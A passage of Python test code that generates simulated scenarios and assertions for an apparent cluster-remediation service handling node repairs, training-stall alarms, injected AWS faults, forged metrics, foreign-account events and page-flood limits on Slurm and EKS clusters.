            "title: (zo) Slurm: the same fault, job 4211 submitted with sbatch --no-requeue",
            "expect: replace_node executed; the drain's record lists job 4211; it ends NODE_FAIL when the node goes "
            "down; the 08:19 sweep's job_states says so (requeue flag 0): job_not_requeueable deferred, one page "
            "naming the job and saying to resubmit it; no scontrol requeue, no restart spent; at 08:44 the node is "
            "resumed and nothing more is asked or paged",
            "check: records fault=job_not_requeueable .outcome == deferred",
            "check: records fault=job_not_requeueable paged=true == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": {**on_node, "requeue": False}}}, agent_up, sample,
            {"sim": {"advance": "2026-11-20T08:50:00Z"}}]),
        "zi-node-repair-auto-resume.jsonl": ([
            "title: (zi) Slurm: the same fault, the job launched with srun --auto-resume=1",
            "expect: replace_node executed once the agent reports the drain; the drain's record lists job 4211; "
            "HyperPod's auto-resume runs it again when the node is back: no requeue, the job recorded ignored (running "
            "again); no page",
            "check: records action=replace_node .outcome == deferred, executed",
            "check: records action=drain_node .outcome == executed",
            "check: records action=resume_node .outcome == executed",
            "check: records trigger=node_repair jobs~4211 == 1",
            "check: records job=4211 outcome=ignored == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: pages == 0",
        ], [{"sim": {"slurm_job": {**on_node, "auto_resume": True}}}, agent_up, sample,
            {"sim": {"advance": "2026-11-20T08:50:00Z"}}]),
        "zj-node-repair-agent-down.jsonl": ([
            "title: (zj) Slurm: the same fault while the agent has not reported for 12 minutes",
            "expect: the node is still replaced (the repair matters more); the record's jobs is null (unknown), "
            "nothing drained; one page says the jobs on the node need a look",
            "check: records .outcome == executed",
            "check: records .jobs == null",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: slurm_commands == 0",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": on_node}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:02:00Z"}}}, sample]),
    }


def repair_owner_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    """One incident, one owner (issue 27, items 7 and 8): a watched job whose node Medic replaces."""
    on_node = {**SLURM_JOB, "nodes": [NODE]}
    # (zzr) the job holds every worker (the emulated cluster's 16, and NODE): once Slurm requeued it, it can start
    # again only when the replacement is back in service
    everywhere = {**SLURM_JOB, "nodes": [NODE, *(instance_id("pretrain-slurm", "workers", str(i)) for i in range(16))]}
    stepping = every_minute(datetime(2026, 11, 20, 7, 55, tzinfo=UTC), datetime(2026, 11, 20, 8, 14, tzinfo=UTC),
                            steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0, checkpoint=1200)
    # the job needs every node of its allocation: it runs again only once the replacement is back in Slurm
    resumed = every_minute(datetime(2026, 11, 20, 8, 52, tzinfo=UTC), datetime(2026, 11, 20, 9, 5, tzinfo=UTC),
                           steps=40, step=1240, loss=1.9, tokens_per_sec=40500.0, new_process=True)
    return {
        "zzr-repair-owns-the-stalled-job.jsonl": ([
            "title: (zzr) Slurm: a node under the watched job llama3-70b (on every worker) is replaced while it trains",
            "expect: the drain first, then the replace once the agent reports it (the drain's record lists job 4211); "
            "when the node goes down slurmctld requeues the job itself, and it waits for the node (no other is free); "
            "the stall alarm at 08:27 is deferred to the repair (no requeue, no page); at 08:45 the replacement is "
            "Running: the node, still drained with Medic's reason, is resumed, the job's recovery window starts and "
            "Slurm starts the job; it steps again from 08:52: recovered; no page",
            "check: records action=replace_node .outcome == deferred, executed",
            "check: records action=drain_node .outcome == executed",
            "check: records action=resume_node .outcome == executed",
            "check: records fault=stalled outcome=deferred paged=false == 1",
            "check: records fault=recovered == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: pages == 0",
        ], [{"sim": {"slurm_job": everywhere}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            *stepping, sample, *resumed]),
        "zzs-hyperpod-repair-owns-the-stalled-job.jsonl": ([
            "title: (zzs) Slurm: HyperPod itself replaces the node llama3-70b trains on (no Medic action)",
            "expect: the probe names the node the job ran on; the reconciler sees that node Pending; the stall alarm "
            "at 08:27 is deferred to HyperPod's repair (no requeue, no page); the node Running again at 08:40 starts "
            "the job's recovery window; it steps again at 08:47: recovered; no page",
            "check: records fault=stalled outcome=deferred == 1",
            "check: records fault=recovered == 1",
            "check: calls sqs:SendMessage == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: pages == 0",
        ], [{"sim": {"slurm_job": on_node}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            *[{**line, "sim": {**line["sim"], "probe": {**line["sim"]["probe"], "node": REPAIRED_NAME}}}
              if "probe" in line["sim"] else line for line in stepping],
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": NODE, "status": "Pending"}}},
            {"sim": {"advance": "2026-11-20T08:40:00Z"}},
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": NODE, "status": "Running"}}},
            *every_minute(datetime(2026, 11, 20, 8, 47, tzinfo=UTC), datetime(2026, 11, 20, 9, 0, tzinfo=UTC),
                          steps=40, step=1240, loss=1.9, tokens_per_sec=40500.0, new_process=True,
                          node=REPAIRED_NAME)]),
        "zzzd-long-repair-holds-the-recovery-window.jsonl": ([
            "title: (zzzd) Slurm: HyperPod's replacement of the node llama3-70b trains on takes 76 minutes (issue 32 "
            "item 6)",
            "expect: the stall alarm at 08:27 is deferred to HyperPod's repair; the repair outlasts the repair window "
            "(30 min): one slow-repair page; it also outlasts the held watch's backstop (08:27 + 30 + 20 min = 09:17), "
            "yet no proof-of-recovery page while the node is Pending; Running again at 09:30, the job's window "
            "starts then and it steps from 09:35: recovered",
            "check: records fault=stalled outcome=deferred == 1",
            "check: records fault=no_progress == 0",
            "check: records fault=recovered == 1",
            "check: records fault=failed_nodes paged=true == 1",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": on_node}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            *[{**line, "sim": {**line["sim"], "probe": {**line["sim"]["probe"], "node": REPAIRED_NAME}}}
              if "probe" in line["sim"] else line for line in stepping],
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": NODE, "status": "Pending"}}},
            {"sim": {"advance": "2026-11-20T09:30:00Z"}},
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": NODE, "status": "Running"}}},
            *every_minute(datetime(2026, 11, 20, 9, 35, tzinfo=UTC), datetime(2026, 11, 20, 9, 50, tzinfo=UTC),
                          steps=40, step=1240, loss=1.9, tokens_per_sec=40500.0, new_process=True,
                          node=REPAIRED_NAME)]),
    }


def every_minute(first: datetime, last: datetime, **published: object) -> list[dict]:
    """The probe publishing once a minute from ``first`` to ``last``, as its background thread does."""
    lines: list[dict] = []
    at = first
    while at <= last:
        lines += [clock(at), probe(**published)]
        published = {key: value for key, value in published.items() if key not in ("checkpoint", "new_process",
                                                                                   "step")}
        at += minutes(1)
    return lines


# AWS's documented "State change for a single-metric alarm" (docs.aws.amazon.com/AmazonCloudWatch/latest/
# monitoring/cloudwatch-and-eventbridge.html), verbatim but for the names (alarm, ARN), the times and the region
# (the stack's, us-west-2: Medic rejects an alarm event of another region, issue 28 item 10).
AWS_SAMPLE_ALARM = {
    "version": "0",
    "id": "c4c1c1c9-6542-e61b-6ef0-8c4d36933a92",
    "detail-type": "CloudWatch Alarm State Change",
    "source": "aws.cloudwatch",
    "account": "123456789012",
    "time": "2026-11-21T03:11:40Z",
    "region": "us-west-2",
    "resources": ["arn:aws:cloudwatch:us-west-2:123456789012:alarm:medic-stall-llama3-70b"],
    "detail": {
        "alarmName": "medic-stall-llama3-70b",
        "configuration": {
            "description": "Goes into alarm when server CPU utilization is too high!",
            "metrics": [{"id": "30b6c6b2-a864-43a2-4877-c09a1afc3b87", "metricStat": {
                "metric": {"dimensions": {"InstanceId": "i-12345678901234567"}, "name": "CPUUtilization",
                           "namespace": "AWS/EC2"}, "period": 300, "stat": "Average"}, "returnData": True}],
        },
        "previousState": {
            "reason": "Threshold Crossed: 1 out of the last 1 datapoints [0.0666851903306472 (21/11/26 02:46:00)] was "
                      "not greater than the threshold (50.0) (minimum 1 datapoint for ALARM -> OK transition).",
            "reasonData": '{"version":"1.0","queryDate":"2026-11-21T02:56:40.985+0000","startDate":'
                          '"2026-11-21T02:46:00.000+0000","statistic":"Average","period":300,"recentDatapoints":'
                          '[0.0666851903306472],"threshold":50.0}',
            "timestamp": "2026-11-21T02:56:40.987+0000",
            "value": "OK",
        },
        "state": {
            "reason": "Threshold Crossed: 1 out of the last 1 datapoints [99.50160229693434 (21/11/26 03:06:00)] was "
                      "greater than the threshold (50.0) (minimum 1 datapoint for OK -> ALARM transition).",
            "reasonData": '{"version":"1.0","queryDate":"2026-11-21T03:11:40.985+0000","startDate":'
                          '"2026-11-21T03:06:00.000+0000","statistic":"Average","period":300,"recentDatapoints":'
                          '[99.50160229693434],"threshold":50.0}',
            "timestamp": "2026-11-21T03:11:40.989+0000",
            "value": "ALARM",
        },
    },
}


def alarm_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """The alarms fire by themselves: the template's alarms are evaluated on what the probe published."""
    slurm = [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}]
    # Training: 40 steps a minute from 03:00 to 03:05 (checkpoint at step 1200), then the process dies: silence.
    healthy = [clock(T_ALARM), *slurm,
               *every_minute(T_ALARM, T_ALARM + minutes(5), steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0,
                             checkpoint=1200)]
    resumed = every_minute(T_ALARM + minutes(24), T_ALARM + minutes(27), steps=25, loss=1.9, tokens_per_sec=40500.0,
                           new_process=True, step=1225)
    return {
        "m-stall-recovered.jsonl": ([
            "title: (m) Stall: the probe goes silent -> the stall alarm fires -> requeue -> training resumes -> OK",
            "expect: stall ALARM at 03:18 (10 minutes of breaching silence after the 03:05 minute, in a 12-minute "
            "evaluation range); requeue_job deferred then executed; recovered at 03:25; the alarm OK at 03:25 closes; "
            "no page",
            "check: alarms alarm=medic-stall-llama3-70b to=ALARM timestamp~T03:18:00 == 1",
            "check: records action=requeue_job .outcome == deferred, executed",
            "check: records fault=recovered timestamp~T03:25:00 == 1",
            "check: alarms alarm=medic-stall-llama3-70b to=OK timestamp~T03:25:00 == 1",
            "check: pages == 0",
        ], [*healthy, *resumed, clock(T_ALARM + minutes(30))]),
        "zf-stall-resumed-from-scratch.jsonl": ([
            "title: (zf) Stall: requeued, and training resumes, but from step 0 instead of the checkpoint at 1200",
            "expect: stall ALARM at 03:18, requeue_job deferred then executed; at 03:25 the recovery check finds the "
            "job stepping again from step 0 (first report 25, 25 steps counted): resumed_behind failed, one page "
            "with both numbers and the 1200 steps lost; the alarm OK at 03:25 pages nothing more",
            "check: records action=requeue_job .outcome == deferred, executed",
            "check: records fault=resumed_behind outcome=failed paged=true == 1",
            'check: pages message~"Steps lost:      1200" == 1',
            "check: pages == 1",
        ], [*healthy, *every_minute(T_ALARM + minutes(24), T_ALARM + minutes(27), steps=25, loss=2.9,
                                    tokens_per_sec=40500.0, new_process=True, step=25),
            clock(T_ALARM + minutes(30))]),
        "n-stall-no-progress.jsonl": ([
            "title: (n) Stall: requeued, but training never resumes",
            "expect: stall ALARM at 03:18, requeue_job deferred then executed; no_progress failed with one page at "
            "03:40; the alarm stays in ALARM: no second requeue",
            "check: alarms alarm=medic-stall-llama3-70b to=ALARM timestamp~T03:18:00 == 1",
            "check: records action=requeue_job .outcome == deferred, executed",
            "check: records fault=no_progress outcome=failed timestamp~T03:40:00 == 1",
            "check: pages == 1",
            "check: calls sqs:SendMessage == 1",
            "check: alarms to=OK == 0",
        ], [*healthy, clock(T_ALARM + minutes(60))]),
        "o-divergence.jsonl": ([
            "title: (o) Divergence: the loss turns NaN -> the divergence alarm -> one page with the last checkpoint",
            "expect: divergence ALARM at 03:03; deferred with one page naming checkpoint step 1200; nothing requeued "
            "or restarted",
            "check: alarms alarm=medic-divergence-llama3-70b to=ALARM timestamp~T03:03:00 == 1",
            "check: records .outcome == deferred",
            'check: pages message~"Last checkpoint:  step 1200" == 1',
            "check: pages == 1",
            "check: calls sqs:SendMessage == 0",
            "check: calls sagemaker:CreateTrainingJob == 0",
        ], [clock(T_ALARM), *slurm,
            *every_minute(T_ALARM, T_ALARM + minutes(1), steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0,
                          checkpoint=1200),
            *every_minute(T_ALARM + minutes(2), T_ALARM + minutes(9), steps=60, loss="nan", tokens_per_sec=41000.0),
            clock(T_ALARM + minutes(10))]),
        "p-alarm-repeat-delivery.jsonl": ([
            "title: (p) AWS's documented alarm event (names and region changed) delivered three times (twice as is, "
            "once under another id)",
            "expect: ignored once (the heartbeat read back counts steps: the job is making progress, no requeue), "
            "then duplicate twice; no command; the evaluated stall alarm itself stays OK",
            "check: records .outcome == ignored, duplicate, duplicate",
            "check: calls sqs:SendMessage == 0",
            "check: alarms to=ALARM == 0",
            "check: pages == 0",
        ], [*healthy, clock(T_ALARM + minutes(11)), AWS_SAMPLE_ALARM, AWS_SAMPLE_ALARM,
            {**AWS_SAMPLE_ALARM, "id": "0a7d4c52-9e1b-4f3a-b6c8-2d5e7f9a1b3c"}]),
        "zn-stall-job-completed.jsonl": ([
            "title: (zn) Stall: the job finished (COMPLETED in Slurm at 03:05:30, its probe not closed) on a cluster "
            "that keeps accounting (slurmdbd)",
            "expect: stall ALARM at 03:18; requeue_job deferred; the agent finds no llama3-70b pending or running, "
            "slurmctld has forgotten it (MinJobAge, 300 s), sacct says 4211 COMPLETED: the requeue is ignored (the "
            "job completed), the restart given back, the recovery watch ended; no page, then or later",
            "check: records .outcome == deferred, ignored",
            "check: records fault=completed outcome=ignored == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: pages == 0",
        ], [*healthy, {"sim": {"slurm": {"cluster": "pretrain-slurm", "accounting": True}}},
            clock(T_ALARM + minutes(5) + timedelta(seconds=30)),
            {"sim": {"slurm_job": {**SLURM_JOB, "state": "COMPLETED"}}}, clock(T_ALARM + minutes(45))]),
    }


def completion_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """A watched job that finishes cleanly (issue 27): its probe's completion marker, then the stall alarm its silence
    trips, and Medic standing down."""
    slurm = [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}]
    return {
        "zm-finished-job-stall-ignored.jsonl": ([
            "title: (zm) A watched job finishes cleanly: its probe's close() publishes the completion marker, its "
            "silence trips the stall alarm",
            "expect: the last steps and Completed at 03:05:40, Slurm job 4211 COMPLETED; stall ALARM at 03:18; "
            "ignored (fault completed, the marker's time and step 1450); no command to the agent, no page",
            "check: alarms alarm=medic-stall-llama3-70b to=ALARM timestamp~T03:18:00 == 1",
            "check: records .outcome == ignored",
            "check: records fault=completed == 1",
            "check: calls sqs:SendMessage == 0",
            "check: pages == 0",
        ], [clock(T_ALARM), *slurm,
            *every_minute(T_ALARM, T_ALARM + minutes(5), steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0,
                          checkpoint=1200),
            clock(T_ALARM + minutes(5) + timedelta(seconds=40)),
            probe(steps=10, loss=1.86, tokens_per_sec=41000.0, checkpoint=1450, close="clean"),
            {"sim": {"slurm_job": {**SLURM_JOB, "state": "COMPLETED"}}},
            clock(T_ALARM + minutes(30))]),
    }


def health_alarm_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    """Medic's own health alarms and the failed-node alarm, from what the replay did."""
    failed_node = "i-0fa11edf00d5eed01"
    return {
        "za-handler-fails-every-retry.jsonl": ([
            "title: (t) DynamoDB fails the node handler on every attempt: its Errors and dead-letter alarms page",
            "fault: dynamodb:BatchGetItem=InternalServerError:12",
            "expect: three invocations raise (Lambda's two retries), the event goes to the DLQ; the function's Errors "
            "alarm pages at 08:15, goes OK at 08:17 on the canary's invocation at 08:16 (it succeeds: a real datapoint "
            "of no error) and pages again at 08:18 for the last retry; its DeadLetters alarm pages once",
            "check: dropped == 1",
            "check: alarms to=ALARM alarm~OperationsErrors == 2",
            "check: alarms to=ALARM alarm~OperationsDeadLetters == 1",
            "check: pages == 3",
        ], [clock(T0 - minutes(3)), sample, clock(T0 + minutes(20))]),
        "zb-failed-node-alarm.jsonl": ([
            "title: (u) A Slurm node left in Failure past repair_minutes: the failed-node alarm pages",
            "expect: the reconciler pages the unexplained failed node once; its FailedNodes gauge keeps the "
            "failed-node alarm breaching; after 30 minutes of sweeps the alarm fires and Medic pages (no Medic repair "
            "in flight), as the cluster's node pages' summary for the hour",
            "check: records fault=unknown paged=true == 1",
            "check: alarms alarm=medic-failed-nodes-pretrain-slurm to=ALARM == 1",
            "check: records fault=failed_nodes paged=true == 1",
            'check: pages subject~"held until" == 1',
            "check: pages == 2",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
        ], [clock(T0 - minutes(4)),
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": failed_node, "group": "workers",
                              "status": "Failure"}}},
            clock(T0 + minutes(40))]),
    }


def fault_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    return {
        "q-throttled-node-call.jsonl": ([
            "title: (q) Fault: HyperPod throttles the first two replace calls",
            "fault: sagemaker:BatchReplaceClusterNodes=ThrottlingException:2",
            "expect: botocore retries; replace_node executed once (1 call, 3 attempts), no page",
            "check: records .outcome == executed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: attempts sagemaker:BatchReplaceClusterNodes == 3",
            "check: injected sagemaker:BatchReplaceClusterNodes == 2",
            "check: pages == 0",
        ], [sample]),
        "r-permanent-node-error.jsonl": ([
            "title: (r) Fault: Medic's role may not replace nodes (AccessDeniedException)",
            "fault: sagemaker:BatchReplaceClusterNodes=AccessDeniedException:1",
            "expect: replace_node failed, not retried, one page",
            "check: records .outcome == failed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 1",
        ], [sample]),
        "s-page-publish-fails.jsonl": ([
            "title: (s) Fault: SNS Publish fails while a protected node needs a human; the handler does not raise",
            "fault: sns:Publish=InternalError:10",
            "expect: the record is still written (paged false), PageFailures 1 in the handler's metrics, no page, "
            "nothing dropped to the DLQ",
            "check: records .outcome == suppressed",
            "check: records .paged == false",
            "check: metric PageFailures == 1",
            "check: pages == 0",
            "check: dropped == 0",
        ], [{"sim": {"node": {"cluster": "pretrain-slurm", "id": "i-0c0ffee0c0ffee001", "group": "controller"}}},
            event("i-0c0ffee0c0ffee001")]),
    }


def node_trust_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    """The node path as AWS behaves, and events Medic must not trust."""
    controller = "i-0c0ffee0c0ffee002"
    foreign = copy.deepcopy(sample)
    foreign["id"] = "0b1c2d3e-4f50-4617-8a9b-0c1d2e3f4a5b"
    foreign["detail"]["ClusterArn"] = "arn:aws:sagemaker:us-west-2:999999999999:cluster/k3v9q2w8x1za"
    foreign["resources"] = [foreign["detail"]["ClusterArn"]]
    healthy = copy.deepcopy(event(at=T0 + timedelta(minutes=30), fault="NvidiaErrorReboot"))
    healthy["id"] = "1c2d3e4f-5061-4728-9bac-1d2e3f4a5b6c"
    healthy["detail"]["HealthSummary"].update(HealthStatus="Healthy", HealthStatusReason="", RepairAction="None",
                                              Recommendation="None")
    return {
        "t-slurm-controller-machine.jsonl": ([
            "title: (t) A Slurm controller in AWS's sample group controller-machine (protected by default)",
            "expect: a reboot-class fault gets no node action and one page",
            "check: records .outcome == suppressed",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: pages == 1",
        ], [{"sim": {"cluster": {"name": "pretrain-slurm",
                                 "groups": {"controller-machine": 1, "login-group": 1, "worker-group-1": 16}}}},
            {"sim": {"node": {"cluster": "pretrain-slurm", "id": controller, "group": "controller-machine"}}},
            event(controller, fault="NvidiaErrorReboot")]),
        "u-node-recovery-disagrees.jsonl": ([
            "title: (u) DescribeCluster says NodeRecovery Automatic; medic.yaml says node_recovery none",
            "expect: both faults deferred to HyperPod, no node call; the disagreement recorded and paged once",
            "check: records fault=gpu_fatal .outcome == deferred, deferred",
            "check: records fault=config_mismatch paged=true == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 1",
        ], [{"sim": {"cluster": {"name": "pretrain-slurm", "node_recovery": "Automatic"}}},
            sample, event("i-0a1b2c3d4e5f60718", T0 + timedelta(minutes=10))]),
        "v-replaced-node-old-id.jsonl": ([
            "title: (v) A node Medic replaced fails again hours later under its old (terminated) instance id",
            "expect: replace_node executed once (the node gets a new instance id); the later event is ignored",
            "check: records .outcome == executed, ignored",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 0",
        ], [sample, {"sim": {"advance": "+3h"}}, event(at=T0 + timedelta(hours=3))]),
        "w-not-found-node.jsonl": ([
            "title: (w) A node whose ClusterInstanceStatus is NotFound reports a GPU fault",
            "expect: ignored (the node is gone), no node call, no page",
            "check: records .outcome == ignored",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 0",
        ], [{"sim": {"node": {"cluster": "pretrain-slurm", "id": NODE, "group": "workers", "status": "NotFound"}}},
            sample]),
        "x-event-redelivered-later.jsonl": ([
            "title: (x) The same node health event (same id) delivered again two hours later (DLQ redrive, replay)",
            "expect: rebooted once; the redelivery is a duplicate with no call",
            "check: records .outcome == executed, duplicate",
            "check: calls sagemaker:BatchRebootClusterNodes == 1",
            "check: pages == 0",
        ], [event(fault="NvidiaErrorReboot"), {"sim": {"advance": "+2h"}}, event(fault="NvidiaErrorReboot")]),
        "y-stale-unhealthy-event.jsonl": ([
            "title: (y) An unhealthy event older than the node's last healthy report arrives late",
            "expect: the healthy report is recorded; the late unhealthy event is ignored (stale), no call",
            "check: records .fault == healthy, gpu_reboot",
            "check: records .outcome == ignored, ignored",
            "check: records fault=gpu_reboot reason~Stale == 1",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
        ], [healthy, event(at=T0 + timedelta(minutes=5), fault="NvidiaErrorReboot")]),
        "z-foreign-cluster-arn.jsonl": ([
            "title: (z) A node health event whose ClusterArn names another account",
            "expect: rejected, no call, no page",
            "check: records .outcome == rejected",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 0",
        ], [foreign]),
    }


def control_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    """Who controls Medic's decisions (issue 28, items 6-8): training metrics, operator requests, the mode switch."""
    team_b = [{"sim": {"slurm_job": {"cluster": "pretrain-slurm", "id": 5001 + n, "name": "eval-sweep-team-b"}}}
              for n in range(3)]
    held = [{"sim": {"slurm_job": {"cluster": "pretrain-slurm", "id": 6000 + n, "name": LLAMA, "state": "PENDING"}}}
            for n in range(9)]
    slurm = [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}]

    def forged(name: str, value: float, at: datetime) -> dict:
        """A datapoint anyone allowed PutMetricData on Medic/Training writes: no probe session with it."""
        return {"sim": {"metric": {"job": LLAMA, "name": name, "value": value,
                                   "timestamp": at.strftime("%Y-%m-%dT%H:%M:%SZ")}}}

    return {
        "zzh-forged-heartbeats-before-the-first-step.jsonl": ([
            "title: (zzh) llama3-70b runs but has not stepped yet (its probe sends nothing before the first step); "
            "someone writes three datapoints: a heartbeat back-dated two hours, a step and a heartbeat now",
            "expect: the stall alarm goes OK on the forged heartbeat, then ALARM when it stops; the read-back finds "
            "only heartbeats no probe session vouches for: no requeue (the job is not touched), one page",
            "check: alarms alarm=medic-stall-llama3-70b to=ALARM timestamp~T03:13:00 == 1",
            "check: records .outcome == deferred",
            "check: calls sqs:SendMessage == 0",
            "check: pages == 1",
        ], [clock(T_ALARM), *slurm, forged("Heartbeat", 5, T_ALARM - timedelta(hours=2)),
            forged("Step", 5, T_ALARM), forged("Heartbeat", 1, T_ALARM), clock(T_ALARM + minutes(20))]),
        "zv-forged-recovery.jsonl": ([
            "title: (zv) Stall, requeue; the restarted process never steps, and someone writes heartbeats and steps "
            "for the job after the requeue",
            "expect: stall ALARM at 03:18, requeue_job deferred then executed; the forged heartbeats carry no probe "
            "session: the alarm's OK at 03:23 is no proof of recovery, its ALARM again at 03:38 is deferred to the "
            "recovery check, which owns the incident (no second restart); no_progress failed with one page at 03:40 "
            "saying the reported steps did not count",
            "check: records action=requeue_job .outcome == deferred, executed",
            "check: alarms alarm=medic-stall-llama3-70b to=OK timestamp~T03:23:00 == 1",
            "check: records fault=no_progress outcome=failed paged=true == 1",
            "check: calls sqs:SendMessage == 1",
            "check: records fault=stalled outcome=deferred reason~\"while Medic proves\" == 1",
            "check: pages == 1",
        ], [clock(T_ALARM), *slurm,
            *every_minute(T_ALARM, T_ALARM + minutes(5), steps=40, step=1240, loss=1.87, tokens_per_sec=41000.0,
                          checkpoint=1200),
            *(line for minute in range(22, 26) for line in (
                clock(T_ALARM + minutes(minute)), forged("Heartbeat", 30, T_ALARM + minutes(minute)),
                forged("Step", 1240 + 30 * (minute - 21), T_ALARM + minutes(minute)))),
            clock(T_ALARM + minutes(45))]),
        "zw-operator-reach.jsonl": ([
            "title: (zw) Operator requests beyond Medic's watched jobs: three requests by id for another team's "
            "running jobs, then one by name for llama3-70b while nine held jobs share its name",
            "expect: each request by id is queued, the agent asks squeue for the job's name and refuses (not a job "
            "Medic watches): rejected, nothing requeued, one page for the cluster; the request by name requeues the "
            "one running llama3-70b (4211), never a held namesake: executed",
            "check: records outcome=rejected .job == 5001, 5002, 5003",
            "check: records outcome=executed job=llama3-70b == 1",
            'check: slurm_commands argv~"scontrol requeue" == 1',
            'check: slurm_commands argv="scontrol requeue 4211" == 1',
            "check: pages == 1",
        ], [{"sim": {"slurm_job": SLURM_JOB}}, *team_b, *held,
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            *(requeue_request(T0 + minutes(n), job_id=str(5001 + n), reason="please requeue my eval job")
              for n in range(3)),
            requeue_request(T0 + minutes(3), job_name=LLAMA, reason="llama3-70b looks stuck")]),
        "zy-mode-switch.jsonl": ([
            "title: (zy) Someone sets the mode parameter to dry_run, then to paused; SSM then fails the node "
            "function's first read of it",
            "fault: ssm:GetParameter=InternalServerError:4",  # botocore: max_attempts 3 retries = 4 attempts
            "expect: each change pages once, straight to the topic (the dry_run one too), naming the old and new mode "
            "and who changed it; the node function's read fails every attempt and keeps the last mode known "
            "(paused), not the deployed act: the GPU fault is suppressed and paged, no node call",
            "check: records fault=mode_changed paged=true == 2",
            "check: records fault=gpu_fatal .outcome == suppressed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 3",
        ], [clock(T0 - minutes(1) - timedelta(seconds=5)), {"sim": {"mode": "dry_run"}},
            clock(T0 - timedelta(seconds=5)), {"sim": {"mode": "paused"}}, sample]),
    }


def capacity_error(index: int, at: datetime) -> dict:
    """HyperPod's cluster event for a replacement that found no capacity (events/hyperpod-cluster-event-error.json),
    for the index-th node of the storm."""
    sample = json.loads((HERE.parent.parent / "tests" / "fixtures" / "events" /
                         "hyperpod-cluster-event-error.json").read_text())
    digest = hashlib.sha256(f"capacity-{index}".encode()).hexdigest()
    details = sample["detail"]["EventDetails"]
    details.update(EventId=str(uuid.UUID(digest[:32])), InstanceId=node_id(index),
                   EventTime=int(at.timestamp() * 1000))
    details["EventDetails"]["EventMetadata"]["Instance"]["NodeLogicalId"] = str(uuid.UUID(digest[32:64]))
    sample["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/capacity/{index}"))
    sample["time"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    return sample


def flood_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """No source of pages floods the on-call (issue 28, item 9): one summary page per source per cluster per hour."""
    return {
        "zp-capacity-errors-one-summary.jsonl": ([
            "title: (zp) HyperPod reports 15 replacements that found no capacity within 7 minutes, and one more "
            "after the hour",
            "expect: 16 records (deferred, a human decides); the first event pages, the second pages as the window's "
            "summary (held until 09:32), the next 13 are recorded without a page; at 09:40 the next window's first "
            "page says 13 were held",
            "check: records == 16",
            "check: records outcome!=deferred == 0",
            "check: pages == 3",
            'check: pages subject~"held until 09:32" == 1',
            'check: pages message~"Held before:    13 more" == 1',
        ], [*(capacity_error(i, T0 + timedelta(minutes=18, seconds=30 * i)) for i in range(15)),
            capacity_error(15, T0 + timedelta(hours=1, minutes=26))]),
    }


def tenant_pod_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """An EKS namespace tenant cannot make Medic restart a healthy job (issue 28, item 5)."""
    start = datetime(2026, 11, 21, 1, 20, tzinfo=UTC)
    failed = "i-0e1f2a3b4c5d6e7f8"
    eks = "finetune-eks"

    def tenant_pod(name: str, uid: str) -> dict:
        return {"sim": {"k8s_pod": {"cluster": eks, "namespace": "kubeflow", "name": name, "node": failed,
                                    "owner": {"kind": "PyTorchJob", "name": "bert-xl", "uid": uid},
                                    "terminating_since": (start + minutes(1)).strftime("%Y-%m-%dT%H:%M:%SZ")}}}

